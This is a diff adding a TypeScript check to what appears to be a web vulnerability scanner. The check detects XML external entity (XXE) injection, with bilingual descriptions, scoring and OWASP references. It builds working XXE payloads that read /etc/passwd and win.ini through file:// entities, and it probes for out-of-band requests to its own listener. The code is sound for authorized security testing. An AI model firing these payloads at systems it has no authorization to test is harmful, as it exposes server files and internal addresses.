@@ -1,0 +1,139 @@
+import { cweReference, scored } from '../../core/definition.ts';
+import { textOf } from '../attack/similar.ts';
+import { type Answer, control, proof, repeat, Trial } from '../attack/trial.ts';
+import type { PointCheck, WebDefinition, WebSighting } from '../check.ts';
+import { filled } from '../evidence.ts';
+
+const DEFINITION: WebDefinition = {
+  key: 'xxe',
+  family: 'Injection',
+  name: { it: 'Entità esterne XML (XXE)', en: 'XML external entities (XXE)' },
+  description: {
+    it: 'Il lettore XML del server segue le entità esterne di un documento ricevuto. Chi lo invia legge file del server e gli fa aprire indirizzi interni.',
+    en: 'The XML parser of the server follows external entities of a document it is sent. Whoever sends it reads files of the server and has it open internal addresses.',
+  },
+  solution: {
+    it: 'Disattivare nel lettore XML le dichiarazioni DOCTYPE o almeno le entità esterne e il caricamento di DTD.',
+    en: 'Switch DOCTYPE declarations off in the XML parser, or at least external entities and the loading of DTDs.',
+  },
+  scores: scored(['AV:N/AC:L/Au:N/C:P/I:N/A:P', 6.4], ['AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:L', 8.2]),
+  cves: [],
+  cwes: ['CWE-611'],
+  owasp: { y2021: 'A05:2021', y2025: 'A02:2025' },
+  references: [
+    cweReference(611),
+    {
+      id: 'OWASP XXE Prevention',
+      link: 'https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html',
+    },
+  ],
+};
+
+const FILES = [
+  { name: '/etc/passwd', shape: /\broot:[^:\s]{0,80}:0:0:/ },
+  { name: '/C:/windows/win.ini', shape: /; for 16-bit app support|\[mci extensions\]/i },
+] as const;
+
+const isXml = (text: string) => /^\s{0,20}<(?:\?xml|[A-Za-z_][\w:.-]{0,60}[\s/>])/.test(text);
+
+const documentOf = ({ kind, value, request }: Trial['point']): string | null => {
+  if (kind !== 'xml') return isXml(value) ? value : null;
+  return typeof request.body === 'string' ? request.body : null;
+};
+
+/** The document with these declarations, and an entity in the place of the point's text, or of the first text. */
+function withEntity(document: string, value: string, declarations: string, text: string): string {
+  const [, head = '', rest = ''] = /^(\s*<\?xml[^>]{0,200}\?>)?([\s\S]*)$/.exec(document) ?? [];
+  const body = rest.replace(/<!DOCTYPE[^>[]{0,500}(?:\[[^\]]{0,2000}\]\s{0,10})?>/i, '');
+  const root = /<([A-Za-z_][\w:.-]{0,60})/.exec(body)?.[1] ?? 'root';
+  const own = value === '' || isXml(value) ? -1 : body.indexOf(`>${value}<`);
+  const filled =
+    own >= 0
+      ? `${body.slice(0, own + 1)}${text}${body.slice(own + 1 + value.length)}`
+      : body.replace(/>([^<]{0,2000})<\//, () => `>${text}</`);
+  return `${head}<!DOCTYPE ${root} [${declarations}]>${filled}`;
+}
+
+async function sendDocument(trial: Trial, document: string): Promise<Answer> {
+  const { point, tools } = trial;
+  if (point.kind !== 'xml') return trial.send(document);
+  const exchange = await tools.request({ ...point.request, body: document });
+  return { value: document, exchange, text: textOf(exchange) };
+}
+
+async function byFile(trial: Trial, document: string): Promise<WebSighting | null> {
+  const ask = (file: string) =>
+    sendDocument(trial, withEntity(document, trial.point.value, `<!ENTITY rq SYSTEM "file://${file}">`, '&rq;'));
+  for (const { name, shape } of FILES) {
+    const first = await ask(name);
+    const shown = shape.exec(first.text)?.[0];
+    if (shown === undefined || shape.test(trial.control.text)) continue;
+    const missing = await ask(`${name}${trial.tools.token()}`);
+    const again = await ask(name);
+    if (shape.test(missing.text) || !shape.test(again.text)) continue;
+    const evidence = filled(
+      {
+        it: 'Un’entità esterna è sostituita da un file del server: file://{name} mostra “{shown}”, un file che non esiste non mostra nulla.',
+        en: 'An external entity is replaced by a file of the server: file://{name} shows “{shown}”, a file that does not exist shows none.',
+      },
+      { name, shown },
+    );
+    return trial.sighting(DEFINITION.key, evidence, [proof(first, shown), control(missing), repeat(again, shown)]);
+  }
+  return null;
+}
+
+async function byListener(trial: Trial, document: string): Promise<WebSighting | null> {
+  const { listener } = trial.tools;
+  if (!listener) return null;
+  const forms = [
+    { declare: (url: string) => `<!ENTITY rq SYSTEM "${url}">`, text: '&rq;' },
+    { declare: (url: string) => `<!ENTITY % rq SYSTEM "${url}"> %rq;`, text: trial.point.value || 'q' },
+  ];
+  for (const { declare, text } of forms) {
+    const ask = async () => {
+      const token = trial.tools.token();
+      const url = listener.urlFor(token);
+      const answer = await sendDocument(trial, withEntity(document, trial.point.value, declare(url), text));
+      const heard = await listener.heard(token, 1_500);
+      return heard && { answer, url, from: heard.from };
+    };
+    const first = await ask();
+    const again = first && (await ask());
+    if (!again) continue;
+    // An address that is only mentioned must not be asked for.
+    const token = trial.tools.token();
+    const mentioned = withEntity(document, trial.point.value, `<!ENTITY rq "q">`, listener.urlFor(token));
+    const harmless = await sendDocument(trial, mentioned);
+    if (await listener.heard(token, 1_500)) continue;
+    const evidence = filled(
+      {
+        it: 'L’interprete XML ha chiesto al nostro ascoltatore l’entità esterna {url} (da {from}), di nuovo per un’altra, e non per un indirizzo soltanto citato.',
+        en: 'The parser asked our listener for the external entity {url} (from {from}), again for another one, and not for an address that is only mentioned.',
+      },
+      { url: first.url, from: first.from },
+    );
+    return trial.sighting(DEFINITION.key, evidence, [
+      proof(first.answer, first.url),
+      control(harmless),
+      repeat(again.answer, again.url),
+    ]);
+  }
+  return null;
+}
+
+export const xxe = {
+  code: 'xxe',
+  name: { it: 'Entità esterne XML', en: 'XML external entities' },
+  kind: 'point',
+  from: 'low',
+  definitions: [DEFINITION],
+  wants: ({ kind, value }) => kind === 'xml' || isXml(value),
+  async attack(point, tools) {
+    const trial = await Trial.begin(point, tools);
+    const document = trial && documentOf(point);
+    if (!trial || !document) return [];
+    const found = (await byFile(trial, document)) ?? (await byListener(trial, document));
+    return found ? [found] : [];
+  },
+} as const satisfies PointCheck;
